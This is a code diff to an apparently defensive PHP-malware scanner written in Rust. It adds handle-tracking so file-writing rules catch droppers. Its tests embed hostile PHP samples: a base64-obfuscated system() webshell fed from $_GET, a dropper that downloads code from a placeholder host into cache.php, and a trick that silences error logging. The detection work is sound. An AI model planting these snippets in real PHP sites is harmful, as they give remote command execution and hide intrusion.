@@ -1985,13 +1985,57 @@ fn resolve_in(src: &[u8], env: &mut Env, nesting: usize, want_plain: bool) -> Re
     // Constants written where variables held them change nothing a rule looks for, unless
     // they were disguised or land in code (see `resolved_at`): only then is the text worth
     // the rules' second pass.
+    let mut text = w.out;
+    let threaded = w.changed && thread_file_handles(src, &mut text);
     Resolved {
         hidden_code: r.hidden_code || hidden_inside,
-        changed: w.changed && (w.disguised || w.tainted),
-        text: w.out,
+        changed: (w.changed && (w.disguised || w.tainted)) || threaded,
+        text,
         plain: plain.out,
         disguised: w.disguised,
     }
+}
+
+/// `$h = fopen('cache.php', 'w'); … fwrite($h, __REMOTE__);`: the resolved writes name the file
+/// they write to (`fwrite('cache.php', __REMOTE__)`), so the rules on writing files see a
+/// dropper that goes through a handle as they see one that calls `file_put_contents`.
+fn thread_file_handles(src: &[u8], text: &mut Vec<u8>) -> bool {
+    static OPEN: std::sync::OnceLock<Option<regex::bytes::Regex>> = std::sync::OnceLock::new();
+    if memchr::memmem::find(text, b"fwrite").is_none()
+        && memchr::memmem::find(text, b"fputs").is_none()
+    {
+        return false;
+    }
+    let Some(open) = crate::engine::detect::rules::cached(
+        &OPEN,
+        r#"(?i)\$([A-Za-z_][A-Za-z0-9_]{0,40})\s*=\s*@?\s*fopen\s*\(\s*('[^'\n]{1,200}'|"[^"\n]{1,200}"|\$_(?:POST|GET|REQUEST|COOKIE)\s*\[[^\]\n]{1,40}\])\s*,\s*['"][wax]"#,
+    ) else {
+        return false;
+    };
+    let handles: Vec<(Vec<u8>, Vec<u8>)> = open
+        .captures_iter(src)
+        .take(64)
+        .filter_map(|c| Some((c.get(1)?.as_bytes().to_vec(), c.get(2)?.as_bytes().to_vec())))
+        .collect();
+    let mut changed = false;
+    for (name, path) in handles {
+        for call in [&b"fwrite"[..], b"fputs"] {
+            let mut from = call.to_vec();
+            from.extend_from_slice(b"($");
+            from.extend_from_slice(&name);
+            from.push(b',');
+            if memchr::memmem::find(text, &from).is_none() {
+                continue;
+            }
+            let mut to = call.to_vec();
+            to.push(b'(');
+            to.extend_from_slice(&path);
+            to.push(b',');
+            *text = decode::replace_bytes(text, &from, &to);
+            changed = true;
+        }
+    }
+    changed
 }
 
 /// A file written back out by [`resolve`].
@@ -2477,6 +2521,9 @@ mod tests {
         // an assignment in parentheses is read like one on its own line
         let t = text("<?php if ($c = base64_decode('c3lzdGVt')) { $c($_GET['x']); }");
         assert!(t.contains("system($_GET"), "{t}");
+        // a dropper writing through a file handle names the file it writes
+        let t = text("<?php $c = file_get_contents('http://x.example.invalid/c.txt'); $fo = fopen('cache.php', 'w+'); fwrite($fo, $c); fclose($fo);");
+        assert!(t.contains("fwrite('cache.php',__REMOTE__)"), "{t}");
         // the silencing `@` does not hide what a `$GLOBALS` alias calls
         let t = text("<?php $g = $GLOBALS; $GLOBALS['t'] = 'ini_set'; @$g['t']('log_errors', 0);");
         assert!(t.contains("@ini_set('log_errors'"), "{t}");
